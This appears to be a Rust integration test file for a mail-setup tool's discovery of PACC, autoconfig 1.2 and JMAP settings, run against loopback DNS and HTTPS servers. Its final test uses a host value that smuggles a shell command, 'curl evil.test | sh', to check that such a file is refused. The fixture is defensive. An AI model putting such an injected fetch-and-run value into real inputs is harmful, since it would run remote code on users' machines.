//! The newer discovery drafts against the loopback DNS and HTTPS servers: PACC
//! (draft-ietf-mailmaint-pacc: a configuration file used only when its SHA-256 matches a
//! `_ua-auto-config` TXT record), autoconfig 1.2 (draft-ietf-mailmaint-autoconfig: the MX
//! `mail-v1.xml` step, SASL mechanism names, service types that are not IMAP), and JMAP
//! noticed (RFC 8620: `/.well-known/jmap` and `_jmap._tcp`), through the library and through
//! the real `mailsetup discover` binary.

#![allow(clippy::unwrap_used, clippy::expect_used)] // A panic in a test is its failure.

mod netsupport;

use std::process::{Command, Output};

use base64::Engine;
use mailsetup::account::{EmailAddress, Protocol, Security};
use mailsetup::discover::pacc_doc::PaccError;
use mailsetup::discover::{
    self, AuthMethod, SourceError, SourceId, SourceStatus, SourceTrust, Vouch,
};
use mailsetup::report::{DiscoverySummary, Document, Header};
use netsupport::{LOOPBACK, Net, Reply, config_xml};

const PACC_PATH: &str = "/.well-known/user-agent-configuration.json";

fn email(text: &str) -> EmailAddress {
    EmailAddress::parse(text).unwrap()
}

fn only(net: &Net, sources: &[SourceId]) -> discover::DiscoveryOptions {
    let mut o = net.options();
    o.sources = sources.iter().copied().collect();
    o
}

/// The `d=` value of a digest record, computed here with ring and base64 directly (not with
/// the code under test).
fn digest_of(body: &[u8]) -> String {
    let d = ring::digest::digest(&ring::digest::SHA256, body);
    base64::engine::general_purpose::STANDARD.encode(d.as_ref())
}

/// A PACC document naming servers at a hosting company outside the mail domain.
fn pacc_body() -> Vec<u8> {
    br#"{
  "protocols": {
    "imap": {"host": "imap.mailhost.test"},
    "smtp": {"host": "smtp.mailhost.test"},
    "managesieve": {"host": "sieve.mailhost.test"},
    "jmap": {"url": "https://api.mailhost.test/jmap/session"}
  },
  "authentication": {"oauth-public": {"issuer": "https://login.mailhost.test"}, "password": true},
  "info": {"provider": {"name": "Mailhost"}}
}"#
    .to_vec()
}

/// Serves the PACC document of `domain`.
fn serve_pacc(net: &Net, domain: &str, body: &[u8]) {
    net.dns.a(&format!("ua-auto-config.{domain}"), LOOPBACK);
    net.web.https(
        &format!("ua-auto-config.{domain}"),
        PACC_PATH,
        Reply::Bytes(body.to_vec()),
    );
}

async fn run(args: Vec<String>) -> Output {
    tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_mailsetup"))
            .env("MAILSETUP_LANG", "en-US")
            .args(&args)
            .output()
            .expect("run mailsetup")
    })
    .await
    .unwrap()
}

fn cli(first: &[&str], net: &Net) -> Vec<String> {
    let mut a: Vec<String> = first.iter().map(|s| s.to_string()).collect();
    a.extend(net.cli_args());
    a
}

#[tokio::test]
async fn a_pacc_file_whose_digest_matches_gives_vouched_candidates_and_its_issuer() {
    let net = Net::start().await;
    let body = pacc_body();
    serve_pacc(&net, "pacc.test", &body);
    net.dns.txt(
        "_ua-auto-config.pacc.test",
        &[&format!("v=UAAC1; a=sha256; d={}", digest_of(&body))],
    );
    let r = discover::discover(&email("pia@pacc.test"), &only(&net, &[SourceId::Pacc])).await;
    let report = r.source(SourceId::Pacc).unwrap();
    assert_eq!(report.status, SourceStatus::Found, "{report:?}");
    assert_eq!(report.found, 2);
    let imap = r.best(Protocol::Imap).unwrap();
    assert_eq!(imap.endpoint_text(), "imap.mailhost.test:993 TLS");
    let smtp = r.best(Protocol::Smtp).unwrap();
    assert_eq!((smtp.port, smtp.security), (465, Security::Tls));
    assert!(r.best(Protocol::Pop3).is_none(), "the file names no POP3");
    for c in [imap, smtp] {
        // Outside the mail domain, yet vouched: the digest binds the file to the domain.
        assert_eq!(c.trust, SourceTrust::Trusted);
        assert_eq!(
            c.vouch,
            Vouch::BoundBy {
                source: SourceId::Pacc
            }
        );
        assert_eq!(c.username, "pia@pacc.test");
    }
    let oauth = r.oauth2.as_ref().expect("the oauth-public issuer");
    assert_eq!(oauth.spec.issuer, "https://login.mailhost.test");
    assert_eq!(oauth.source, SourceId::Pacc);
    assert_eq!(oauth.provider, "Mailhost");
    assert!(oauth.is_trusted(), "{oauth:?}");
    let jmap = r.jmap.as_ref().expect("the JMAP session URL is noticed");
    assert_eq!(
        jmap.session.as_deref(),
        Some("https://api.mailhost.test/jmap/session")
    );
    // The ManageSieve host is not a mail server for us.
    assert!(r.candidates.iter().all(|c| !c.host.starts_with("sieve.")));
}

#[tokio::test]
async fn a_mismatching_or_missing_digest_refuses_the_file_says_so_and_uses_nothing() {
    let net = Net::start().await;
    let body = pacc_body();
    serve_pacc(&net, "bad.test", &body);
    // The digest of a file that differs by one byte.
    let mut other = body.clone();
    other.push(b'\n');
    net.dns.txt(
        "_ua-auto-config.bad.test",
        &[&format!("v=UAAC1; a=sha256; d={}", digest_of(&other))],
    );
    serve_pacc(&net, "bare.test", &body);
    net.dns.txt("_ua-auto-config.bare.test", &["v=spf1 -all"]);

    let r = discover::discover(&email("bo@bad.test"), &only(&net, &[SourceId::Pacc])).await;
    let report = r.source(SourceId::Pacc).unwrap();
    assert_eq!(report.status, SourceStatus::Failed, "{report:?}");
    assert!(
        matches!(
            &report.error,
            Some(SourceError::Pacc(PaccError::Mismatch { records: 1, .. }))
        ),
        "{report:?}"
    );
    let words = report.error.as_ref().unwrap().words();
    assert!(
        words.contains("was not used") && words.contains("_ua-auto-config.bad.test"),
        "{words}"
    );
    assert!(r.candidates.is_empty() && r.oauth2.is_none() && r.jmap.is_none());

    let r = discover::discover(&email("bo@bare.test"), &only(&net, &[SourceId::Pacc])).await;
    let report = r.source(SourceId::Pacc).unwrap();
    assert!(
        matches!(
            &report.error,
            Some(SourceError::Pacc(PaccError::NoDigest { .. }))
        ),
        "{report:?}"
    );
    assert!(r.candidates.is_empty() && r.oauth2.is_none());

    // The same refusal in the binary's words and JSON.
    let out = run(cli(&["discover", "bo@bad.test", "--only", "pacc"], &net)).await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("does not match the digest published at _ua-auto-config.bad.test"),
        "{text}"
    );
    assert!(!text.contains("imap.mailhost.test"), "{text}");
    let out = run(cli(
        &["discover", "bo@bad.test", "--only", "pacc", "--json"],
        &net,
    ))
    .await;
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let pacc = json["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["source"] == "pacc")
        .unwrap();
    assert_eq!(pacc["status"], "failed");
    assert!(
        pacc["error"].as_str().unwrap().contains("matches none"),
        "{pacc}"
    );
    assert_eq!(json["candidates"].as_array().unwrap().len(), 0);
}

#[tokio::test]
async fn of_several_txt_records_one_matching_is_enough() {
    let net = Net::start().await;
    let body = pacc_body();
    serve_pacc(&net, "roll.test", &body);
    let name = "_ua-auto-config.roll.test";
    net.dns.txt(name, &["v=spf1 include:mailhost.test -all"]);
    net.dns.txt(
        name,
        &[&format!(
            "v=UAAC1; a=sha256; d={}",
            digest_of(b"last year's file")
        )],
    );
    // The current digest, split over two character-strings as long records are.
    let d = digest_of(&body);
    net.dns
        .txt(name, &["v=UAAC1; a=sha256; ", &format!("d={d}")]);
    let r = discover::discover(&email("ro@roll.test"), &only(&net, &[SourceId::Pacc])).await;
    let report = r.source(SourceId::Pacc).unwrap();
    assert_eq!(report.status, SourceStatus::Found, "{report:?}");
    assert_eq!(
        r.best(Protocol::Imap).unwrap().vouch,
        Vouch::BoundBy {
            source: SourceId::Pacc
        }
    );
}

#[tokio::test]
async fn the_mx_step_reads_mail_v1_xml_vouched_only_when_the_mx_base_is_the_domain() {
    let net = Net::start().await;
    let file = |host: &str| {
        config_xml(
            "x",
            (host, 993, "SSL"),
            ("pop.x.test", 995, "SSL"),
            (host, 465, "SSL"),
        )
    };

    // The MX base is the address's own domain: its autoconfig host speaks for it.
    net.dns.mx("own.test", 10, "mx.own.test");
    net.dns.a("autoconfig.own.test", LOOPBACK);
    net.web.https(
        "autoconfig.own.test",
        "/.well-known/mail-v1.xml",
        Reply::Xml(file("mail.hoster.test")),
    );
    let r = discover::discover(&email("oli@own.test"), &only(&net, &[SourceId::Mx])).await;
    let report = r.source(SourceId::Mx).unwrap();
    assert!(
        report
            .asked
            .contains(&"https://autoconfig.own.test/.well-known/mail-v1.xml".to_string()),
        "{report:?}"
    );
    let imap = r
        .best(Protocol::Imap)
        .expect("a candidate from mail-v1.xml");
    assert_eq!(imap.host, "mail.hoster.test");
    // Recorded as the domain's own autoconfig, found by the MX step.
    assert_eq!(
        imap.vouch,
        Vouch::BoundBy {
            source: SourceId::Autoconfig
        }
    );
    assert_eq!(imap.trust, SourceTrust::Trusted);

    // The MX base is someone else's: what it says is unvouched, asked before use.
    net.dns.mx("cust.test", 10, "mx1.hoster.test");
    net.dns.a("autoconfig.hoster.test", LOOPBACK);
    net.web.https(
        "autoconfig.hoster.test",
        "/.well-known/mail-v1.xml",
        Reply::Xml(file("imap.hoster.test")),
    );
    let r = discover::discover(&email("cy@cust.test"), &only(&net, &[SourceId::Mx])).await;
    let report = r.source(SourceId::Mx).unwrap();
    assert_eq!(report.status, SourceStatus::Found, "{report:?}");
    let imap = r.best(Protocol::Imap).unwrap();
    assert_eq!(imap.host, "imap.hoster.test");
    assert_eq!(imap.trust, SourceTrust::Dns);
    assert!(
        matches!(
            imap.vouch,
            Vouch::Unvouched {
                source: SourceId::Mx,
                ..
            }
        ),
        "{:?}",
        imap.vouch
    );
    assert!(imap.consent_question("cust.test").is_some());
}

/// An autoconfig 1.2 file: JMAP, EWS and ManageSieve beside IMAP and SMTP, SASL names.
fn v12_file() -> String {
    r#"<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.2">
  <emailProvider id="v12.test">
    <domain>v12.test</domain>
    <incomingServer type="jmap">
      <url>https://v12.test/jmap/session</url>
      <authentication>SASL SCRAM-SHA-256</authentication>
    </incomingServer>
    <incomingServer type="ews">
      <url>https://ews.v12.test/EWS/Exchange.asmx</url>
    </incomingServer>
    <incomingServer type="managesieve">
      <hostname>sieve.v12.test</hostname><port>4190</port>
    </incomingServer>
    <incomingServer type="imap">
      <hostname>imap.v12.test</hostname><port>993</port><socketType>SSL</socketType>
      <authentication>SASL SCRAM-SHA-256</authentication>
      <authentication>SASL PLAIN</authentication>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.v12.test</hostname><port>465</port><socketType>SSL</socketType>
      <authentication>SASL PLAIN</authentication>
    </outgoingServer>
  </emailProvider>
</clientConfig>"#
        .to_string()
}

#[tokio::test]
async fn a_1_2_file_with_sasl_names_and_jmap_ews_types_makes_no_imap_of_them_and_shows_them() {
    let net = Net::start().await;
    net.dns.a("autoconfig.v12.test", LOOPBACK);
    net.web.https(
        "autoconfig.v12.test",
        "/mail/config-v1.1.xml",
        Reply::Xml(v12_file()),
    );
    let r = discover::discover(&email("vi@v12.test"), &only(&net, &[SourceId::Autoconfig])).await;
    let hosts: Vec<(Protocol, &str)> = r
        .candidates
        .iter()
        .map(|c| (c.protocol, c.host.as_str()))
        .collect();
    assert_eq!(
        hosts,
        vec![
            (Protocol::Imap, "imap.v12.test"),
            (Protocol::Smtp, "smtp.v12.test")
        ],
        "JMAP, EWS and ManageSieve are never made into mail servers"
    );
    let imap = r.best(Protocol::Imap).unwrap();
    assert_eq!(
        imap.auth,
        vec![
            AuthMethod::Sasl("SCRAM-SHA-256".into()),
            AuthMethod::Sasl("PLAIN".into())
        ]
    );
    let notes = &r.source(SourceId::Autoconfig).unwrap().notes;
    for kind in ["JMAP", "EWS", "ManageSieve"] {
        assert!(notes.iter().any(|n| n.contains(kind)), "{kind}: {notes:?}");
    }
    assert_eq!(
        r.jmap.as_ref().and_then(|j| j.session.as_deref()),
        Some("https://v12.test/jmap/session")
    );

    // Shown by the binary: the mechanisms and notes in JSON, the JMAP line in text.
    let out = run(cli(
        &["discover", "vi@v12.test", "--only", "autoconfig", "--json"],
        &net,
    ))
    .await;
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let first = &json["candidates"][0];
    assert_eq!(first["host"], "imap.v12.test");
    assert_eq!(first["auth"][0]["sasl"], "SCRAM-SHA-256", "{first}");
    let text = json.to_string();
    assert!(
        text.contains("also offers EWS at https://ews.v12.test/EWS/Exchange.asmx"),
        "{text}"
    );
    let kinds: Vec<&str> = json["services"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, vec!["jmap", "ews", "managesieve"]);
    let out = run(cli(
        &["discover", "vi@v12.test", "--only", "autoconfig"],
        &net,
    ))
    .await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("This provider also offers JMAP"), "{text}");
    assert!(
        text.contains(
            "Also listed by the provider, not set up by mailsetup: JMAP \
             https://v12.test/jmap/session, EWS https://ews.v12.test/EWS/Exchange.asmx, \
             ManageSieve sieve.v12.test:4190"
        ),
        "{text}"
    );
    assert!(
        text.contains("sign-in mechanisms the provider names: SCRAM-SHA-256, PLAIN"),
        "{text}"
    );
}

#[tokio::test]
async fn jmap_is_noticed_through_well_known_and_srv_in_json_and_text() {
    let net = Net::start().await;
    // A well-known URL that redirects (on its own host) to a session behind sign-in.
    net.dns.a("jwk.test", LOOPBACK);
    let session = net.web.url(true, "jwk.test", "/jmap/session");
    net.web.https(
        "jwk.test",
        "/.well-known/jmap",
        Reply::Redirect(session.clone()),
    );
    net.web
        .https("jwk.test", "/jmap/session", Reply::Status(401));
    // A well-known URL that answers with the session itself.
    net.dns.a("jbody.test", LOOPBACK);
    net.web.https(
        "jbody.test",
        "/.well-known/jmap",
        Reply::Bytes(
            br#"{"capabilities":{"urn:ietf:params:jmap:core":{},"urn:ietf:params:jmap:mail":{}},
                "accounts":{},"apiUrl":"https://jbody.test/api/"}"#
                .to_vec(),
        ),
    );
    // Only an SRV record.
    net.dns
        .srv("_jmap._tcp.jsrv.test", 0, 1, 443, "jmap.jsrv.test");
    // Web servers that say nothing about JMAP: a page, a bare 401, nothing.
    net.dns.a("jhtml.test", LOOPBACK);
    net.web.https(
        "jhtml.test",
        "/.well-known/jmap",
        Reply::Bytes(b"<html>welcome</html>".to_vec()),
    );
    net.dns.a("j401.test", LOOPBACK);
    net.web
        .https("j401.test", "/.well-known/jmap", Reply::Status(401));
    net.dns.a("jnone.test", LOOPBACK);

    let jmap = |d: &str| {
        let opts = only(&net, &[SourceId::Jmap]);
        let e = email(&format!("jo@{d}"));
        async move { discover::discover(&e, &opts).await.jmap }
    };
    assert_eq!(
        jmap("jwk.test").await.unwrap().session.as_deref(),
        Some(session.as_str())
    );
    assert!(jmap("jbody.test").await.is_some());
    let srv = jmap("jsrv.test").await.unwrap();
    assert_eq!(
        srv.seen_at,
        vec!["SRV _jmap._tcp.jsrv.test → jmap.jsrv.test:443"]
    );
    // The technician report says it too (Markdown and JSON).
    let r = discover::discover(&email("jo@jsrv.test"), &only(&net, &[SourceId::Jmap])).await;
    let summary = DiscoverySummary::from(&r);
    let doc = Document::new(
        Header::now(),
        r.email.clone(),
        Some(summary),
        vec![],
        vec![],
    );
    let md = doc.markdown();
    assert!(
        md.contains("This provider also offers JMAP (seen at SRV"),
        "{md}"
    );
    let json: serde_json::Value = serde_json::from_str(&doc.json().unwrap()).unwrap();
    assert!(json.to_string().contains("also offers JMAP"), "{json}");
    for quiet in ["jhtml.test", "j401.test", "jnone.test"] {
        assert_eq!(jmap(quiet).await, None, "{quiet}");
    }

    // The binary, as people and scripts see it.
    let out = run(cli(
        &["discover", "jo@jwk.test", "--only", "jmap", "--json"],
        &net,
    ))
    .await;
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["jmap"]["session"], session.as_str(), "{json}");
    assert!(json["candidates"].as_array().unwrap().is_empty());
    let out = run(cli(&["discover", "jo@jsrv.test", "--only", "jmap"], &net)).await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("This provider also offers JMAP (seen at SRV _jmap._tcp.jsrv.test"),
        "{text}"
    );
    let out = run(cli(&["discover", "jo@jnone.test", "--only", "jmap"], &net)).await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("JMAP ("), "{text}");
}

#[tokio::test]
async fn a_checked_file_that_names_a_bad_host_is_refused_whole() {
    let net = Net::start().await;
    let body = br#"{"protocols": {"imap": {"host": "imap.ok.test"},
        "smtp": {"host": "smtp.ok.test; curl evil.test | sh"}}}"#;
    serve_pacc(&net, "hostile.test", body);
    net.dns.txt(
        "_ua-auto-config.hostile.test",
        &[&format!("v=UAAC1; a=sha256; d={}", digest_of(body))],
    );
    let r = discover::discover(&email("ha@hostile.test"), &only(&net, &[SourceId::Pacc])).await;
    let report = r.source(SourceId::Pacc).unwrap();
    assert!(
        matches!(
            &report.error,
            Some(SourceError::Pacc(PaccError::Document { .. }))
        ),
        "{report:?}"
    );
    assert!(
        report
            .error
            .as_ref()
            .unwrap()
            .words()
            .contains("is not usable"),
        "{report:?}"
    );
    assert!(
        r.candidates.is_empty(),
        "not even the good IMAP host is kept"
    );
}
